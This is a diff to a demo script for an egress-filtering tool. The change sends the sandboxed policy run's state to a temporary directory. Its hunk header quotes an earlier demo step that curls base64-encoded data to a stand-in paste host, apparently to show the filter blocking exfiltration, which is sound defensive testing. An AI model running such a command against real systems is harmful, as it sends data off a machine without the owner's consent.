@@ -102,7 +102,8 @@ try "to a paste site" curl -sS --max-time 3 "http://paste.example.net:443/?d=c2V
 
 step "3. Apply the shipped default policy inside the sandbox"
 "$bin" check policies/default.yaml
-"$bin" apply policies/default.yaml --netns "$sb"
+# Generations and locks go to the demo's own state directory, not /var/lib/egress-fence.
+"$bin" apply policies/default.yaml --netns "$sb" --state-dir "$tmp/state"
 
 step "4. The table, read back from the kernel"
 "$bin" status --netns "$sb"
